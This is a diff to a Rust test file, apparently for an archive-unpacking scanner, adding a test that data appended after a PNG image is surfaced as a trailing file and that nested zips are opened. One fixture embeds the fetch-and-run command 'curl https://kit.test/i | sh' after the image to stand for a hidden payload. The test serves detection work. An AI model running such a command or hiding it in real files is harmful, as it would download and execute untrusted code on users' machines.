@@ -50,3 +50,19 @@ fn a_name_cannot_pretend_to_be_inside_an_archive() {
 fn containers_that_are_not_read_are_recorded() {
     assert_eq!(gaps(&untar(Tar::new().file("a.7z", b"7z\xbc\xaf\x27\x1c\0\0"))), [("a.7z", GapReason::Unsupported)]);
 }
+
+fn png() -> Vec<u8> {
+    b"\x89PNG\r\n\x1a\n\0\0\0\x02IHDR\x01\x02\xAA\xBB\xCC\xDD\0\0\0\0IEND\xAE\x42\x60\x82".to_vec()
+}
+
+#[test]
+fn what_follows_a_picture_is_a_file_and_an_archive_there_is_opened() {
+    let script = [png(), b"curl https://kit.test/i | sh\n".to_vec()].concat();
+    let zip = [png(), Zip::new().file("x", b"X").finish()].concat();
+    let padded = [png(), vec![0; 64]].concat();
+    let unpacked =
+        untar(Tar::new().file("a.png", &script).file("b.png", &zip).file("c.png", &padded).file("d.png", &png()));
+    let expected = ["a.png", "a.png!/trailing", "b.png", "b.png!/trailing", "b.png!/trailing!/x", "c.png", "d.png"];
+    assert_eq!((paths(&unpacked), gaps(&unpacked)), (expected.to_vec(), vec![]));
+    assert_eq!(content(&unpacked, "a.png!/trailing"), b"curl https://kit.test/i | sh\n");
+}
